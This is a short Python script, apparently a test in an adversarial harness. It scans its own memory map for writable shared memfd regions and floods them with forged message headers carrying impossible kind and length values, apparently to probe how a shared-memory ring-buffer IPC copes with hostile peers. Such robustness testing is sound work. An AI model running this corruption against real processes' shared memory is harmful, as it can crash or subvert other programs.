# Puts the numbers of kinds and lengths that there are not into all shared memory behind the headers.
import ctypes
import os


def attempt():
    count = 0
    with open("/proc/self/maps") as maps:
        lines = [line.split() for line in maps]
    for words in lines:
        if "w" in words[1] and "s" in words[1] and "memfd" in " ".join(words[5:]):
            first, last = (int(word, 16) for word in words[0].split("-"))
            # The first page stays, so that the ring itself is whole.
            for place in range(first + 4096, min(last, first + (1 << 20)), 16):
                ctypes.memmove(place, b"\xff\xff\xff\x7f\xfe\xff\xff\xff" + os.urandom(8), 16)
            count += 1
    return f"{count} mappings have forged messages"


outcome = tried(attempt)
